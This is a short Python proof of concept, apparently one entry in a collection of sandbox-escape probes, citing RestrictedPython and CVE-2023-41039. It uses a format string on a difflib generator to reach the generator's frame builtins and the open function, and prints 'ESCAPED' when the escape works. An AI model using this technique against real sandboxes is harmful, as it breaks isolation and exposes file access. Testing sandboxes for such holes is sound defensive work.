# technique: a format string walks from a generator to its builtins
# goal: frames
# source: RestrictedPython, CVE-2023-41039
import difflib
me = difflib.unified_diff(['a'], ['b'])
text = '{0.gi_frame.f_builtins[open]}'.format(me)
if 'function open' in text:
    print('ESCAPED', text)
